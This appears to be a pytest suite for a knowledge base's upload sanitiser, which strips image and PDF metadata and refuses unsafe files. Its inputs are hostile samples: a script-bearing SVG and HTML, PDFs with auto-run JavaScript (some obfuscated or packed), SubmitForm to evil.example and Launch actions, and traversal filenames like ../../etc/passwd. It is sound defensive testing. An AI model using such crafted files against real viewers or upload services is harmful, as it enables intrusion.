"""Pictures and documents are judged by what is in them; of a picture nothing but its points is kept."""

from __future__ import annotations

import io
import logging
import re
import struct
import zlib
from typing import Any

import pytest
from PIL import Image, ImageCms, ImageFile, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from kb.records.attachments import NAME, namings
from kb.records.uploads.images import (
    LONGEST_SIDE,
    MOST_BYTES,
    Refused,
    ending_of,
    is_picture,
    safe_name,
    size_of,
    taken,
)
from kb.records.uploads.pdf_files import made_anew

SECRET = b"41.40338 N 2.17403 E"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def a_document(**options: Any) -> bytes:
    """Return a PDF of one empty page; what is given says who made it."""
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    writer.metadata = options or None
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def packed(catalog: bytes) -> bytes:
    """Return a PDF whose catalog lies packed within a stream, so that its names cannot be seen in the bytes."""
    inner = b"1 0 " + catalog
    stream = zlib.compress(inner)
    head = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    parts = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        4: b"<< %b /Length %d >>\nstream\n%b\nendstream" % (head, len(stream), stream),
    }
    data, places = b"%PDF-1.7\n", {}
    for number, part in parts.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%b\nendobj\n" % (number, part)
    places[5] = len(data)
    rows = struct.pack(">BHB", 0, 0, 255) + struct.pack(">BHB", 2, 4, 0)
    rows += b"".join(struct.pack(">BHB", 1, places[number], 0) for number in (2, 3, 4, 5))
    table = b"<< /Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n%b\nendstream" % (len(rows), rows)
    return data + b"5 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, places[5])


PDF = made_anew(a_document())


def a_picture(form: str = "JPEG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: Any) -> bytes:
    out = io.BytesIO()
    image = Image.new(mode, size, 0)
    image.paste(1 if mode == "1" else 200 if mode in ("L", "P") else (200, 30, 30), (0, 0, size[0] // 2, size[1]))
    image.save(out, form, **options)
    return out.getvalue()


def with_place(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = SECRET.decode()
    exif.get_ifd(0x8825)[1] = "N"
    return exif


def code_of(data: bytes) -> str:
    with pytest.raises(Refused) as refused:
        taken(data)
    return refused.value.problem.code


def opened(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def a_png_that_says(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(("form", "ending"), [("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")])
def test_a_picture_is_made_anew_in_its_own_form(form: str, ending: str) -> None:
    data = a_picture(form)
    safe = taken(data)
    assert (safe.ending, ending_of(safe.data)) == (ending, ending)
    assert opened(safe.data).size == size_of(safe.data) == (60, 40)
    left, right = opened(safe.data).convert("RGB").getpixel((5, 5)), opened(safe.data).convert("RGB").getpixel((55, 5))
    assert isinstance(left, tuple)
    assert isinstance(right, tuple)
    assert left[0] > 180
    assert right[0] < 20


def test_where_and_when_it_was_taken_is_gone() -> None:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", SECRET.decode())
    for data in (
        a_picture("JPEG", exif=with_place(), comment=SECRET),
        a_picture("PNG", exif=with_place(), pnginfo=notes),
        a_picture("WEBP", exif=with_place(), xmp=SECRET),
    ):
        assert SECRET in data
        safe = taken(data).data
        assert SECRET not in safe
        assert not opened(safe).getexif()
        assert not {"exif", "comment", "xmp", "icc_profile", "Comment", "dpi"} & set(opened(safe).info)


def test_a_picture_that_lies_on_its_side_stands_up() -> None:
    data = a_picture("JPEG", exif=with_place(orientation=6))
    assert size_of(data) == (40, 60)
    assert opened(taken(data).data).size == (40, 60)


def test_another_profile_becomes_the_colours_of_screens() -> None:
    lab = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    safe = opened(taken(a_picture("JPEG", icc_profile=lab)).data)
    assert "icc_profile" not in safe.info
    assert taken(a_picture("JPEG", icc_profile=b"no profile at all")).ending == "jpg"


@pytest.mark.parametrize("mode", ["1", "L", "P", "LA", "RGBA", "I;16"])
def test_every_sort_of_png_is_taken_with_what_shines_through(mode: str) -> None:
    image = Image.new(mode, (20, 20))
    out = io.BytesIO()
    image.save(out, "PNG")
    safe = opened(taken(out.getvalue()).data)
    assert safe.mode == ("RGBA" if mode in ("LA", "RGBA") else "RGB" if mode in ("P", "1") else "L")


def test_a_picture_for_printers_becomes_one_for_screens() -> None:
    out = io.BytesIO()
    Image.new("CMYK", (20, 20)).save(out, "JPEG")
    assert opened(taken(out.getvalue()).data).mode == "RGB"


def test_a_large_picture_is_made_smaller() -> None:
    assert max(opened(taken(a_picture("JPEG", (3600, 1800))).data).size) == LONGEST_SIDE


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "no-file"),
        (SVG, "unknown-type"),
        (b"<html><script>alert(1)</script>", "unknown-type"),
        (b"GIF89a" + SVG, "unknown-type"),
        (b"MZ\x90\0", "unknown-type"),
        (b"PK\x03\x04", "unknown-type"),
        (b"\x89PNG\r\n\x1a\nnothing", "broken-picture"),
        (b"\xff\xd8\xff\xe0" + SVG, "broken-picture"),
        (b"RIFF\0\0\0\0WEBPVP8 ", "broken-picture"),
        (a_picture("PNG")[:60], "broken-picture"),
        (b"\0" * (MOST_BYTES + 1), "too-large"),
        (a_png_that_says(60_000, 60_000), "too-many-points"),
        (a_png_that_says(9_000, 9_000), "too-many-points"),
        (a_png_that_says(2_000, 2_000), "broken-picture"),
        (b"x" + PDF, "unknown-type"),
        (PDF[:-6], "broken-document"),
        (PDF + b"PK\x03\x04 and an archive", "broken-document"),
        (PDF.replace(b"/Type", b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> /Type"), "active-document"),
        (PDF.replace(b"/Type", b"/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >> /Type"), "active-document"),
    ],
)
def test_what_is_none_is_not_taken(data: bytes, code: str) -> None:
    assert code_of(data) == code


def test_a_note_that_swells_when_it_is_unpacked_is_no_trouble() -> None:
    swelling = zlib.compress(b"a" * 80_000_000)
    picture = a_picture("PNG")
    data = picture[:33] + chunk(b"zTXt", b"Comment\0\0" + swelling) + picture[33:]
    assert code_of(data) == "broken-picture"


@pytest.mark.parametrize("form", ["PNG", "WEBP"])
def test_what_moves_is_not_taken(form: str) -> None:
    out = io.BytesIO()
    first, second = Image.new("RGB", (20, 20)), Image.new("RGB", (20, 20), (250, 0, 0))
    first.save(out, form, save_all=True, append_images=[second])
    assert code_of(out.getvalue()) == "animated"


def test_nothing_hides_behind_the_end_of_a_picture() -> None:
    for form in ("JPEG", "PNG", "WEBP"):
        safe = taken(a_picture(form) + b"<script>alert(1)</script>PK\x03\x04").data
        assert b"<script>" not in safe
        assert b"PK\x03\x04" not in safe


def test_of_a_document_it_is_forgotten_who_made_it_and_when_but_not_its_title() -> None:
    data = a_document(**{"/Title": "Plan", "/Author": "Ana", "/Creator": "Office", "/CreationDate": "D:20261127"})
    writer = PdfWriter(clone_from=io.BytesIO(data))
    writer.xmp_metadata = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>Ana</x:xmpmeta>"
    writer.pages[0][NameObject("/PieceInfo")] = DictionaryObject({NameObject("/Office"): TextStringObject("Ana")})
    out = io.BytesIO()
    writer.write(out)
    assert b"Ana" in out.getvalue()
    kept = taken(out.getvalue()).data
    assert b"Ana" not in kept
    reader = PdfReader(io.BytesIO(kept))
    assert reader.metadata is not None
    assert list(reader.metadata.items()) == [("/Title", "Plan")]
    assert len(reader.pages) == 1


def test_a_program_that_is_packed_away_is_found() -> None:
    assert taken(packed(b"<< /Type /Catalog /Pages 2 0 R >>")).ending == "pdf"
    program = packed(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>")
    assert b"JavaScript" not in program
    assert code_of(program) == "active-document"


@pytest.mark.parametrize(
    "action",
    [
        b"/S /SubmitForm /F (https://evil.example)",
        b"/S /GoToR /F (\\\\evil\\share)",
        b"/S /GoToE /F (other.pdf)",
        b"/S /ImportData /F (data.fdf)",
        b"/S /Launch /F (program)",
    ],
)
def test_a_document_that_sends_something_or_opens_another_is_not_taken(action: bytes) -> None:
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << " + action + b" >> >>] /Type"
    assert code_of(PDF.replace(b"/Type", link, 2)) == "active-document"


@pytest.mark.parametrize("name", [b"OpenAction", b"AA"])
def test_what_a_document_does_when_it_is_opened_is_taken_out(name: bytes) -> None:
    action = b"/" + name + b" << /S /URI /URI (https://evil.example) >> /Type"
    kept = taken(PDF.replace(b"/Type", action, 1)).data
    assert b"evil.example" not in kept
    assert b"/" + name not in kept


def test_a_crafted_document_fills_no_log(caplog: pytest.LogCaptureFixture) -> None:
    broken = re.sub(rb"startxref\s+\d+", b"startxref\n3", PDF)
    caplog.set_level(logging.WARNING, logger="pypdf")  # as before the first document
    assert PdfReader(io.BytesIO(broken)).pages
    assert caplog.records  # that is what the library says of it
    caplog.clear()
    assert taken(broken).data
    assert not caplog.records


def test_a_locked_document_is_not_taken() -> None:
    writer = PdfWriter(clone_from=io.BytesIO(PDF))
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    assert code_of(out.getvalue()) == "broken-document"


def test_a_document_that_says_nothing_of_anybody_is_kept_as_it_is() -> None:
    assert taken(PDF).data == PDF
    assert size_of(PDF) == (0, 0)
    assert not is_picture("report.pdf")


def test_whatever_cannot_be_shown_has_no_size() -> None:
    for data in (b"", SVG, b"\x89PNG\r\n\x1a\nnothing", a_png_that_says(60_000, 60_000)):
        assert size_of(data) == (0, 0)


@pytest.mark.parametrize(
    ("given", "name"),
    [
        ("Slope in Spring.JPEG", "slope-in-spring.jpg"),
        ("../../etc/passwd", "passwd.jpg"),
        ("C:\\Users\\Ana\\secret.png", "secret.jpg"),
        ("Čiuožykla ė.svg", "ciuozykla-e.jpg"),
        ("фото.jpg", "picture.jpg"),
        ("", "picture.jpg"),
        (".htaccess", "htaccess.jpg"),
        ("a.php.jpg", "a-php.jpg"),
        ("x" * 300 + ".jpg", "x" * 60 + ".jpg"),
        ("a\0b\n.jpg", "a-b.jpg"),
    ],
)
def test_names_are_made_safe_for_addresses(given: str, name: str) -> None:
    assert safe_name(given, "jpg") == name
    assert NAME.fullmatch(name)


def test_pictures_and_documents_are_found_in_a_text() -> None:
    text = (
        "One ![A slope](slope.jpg) and ![](https://example.org/x.png).\n\nThe [report](report.pdf), [no](practices/x)."
    )
    found = [(each.name, each.line, each.is_picture, each.alt) for each in namings(text)]
    assert found == [
        ("slope.jpg", 0, True, "A slope"),
        ("https://example.org/x.png", 0, True, ""),
        ("report.pdf", 2, False, ""),
    ]


def test_half_a_picture_is_refused_whatever_another_library_allowed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    data = a_picture("PNG", (400, 400))
    with pytest.raises(Refused):
        taken(data[: len(data) // 2])
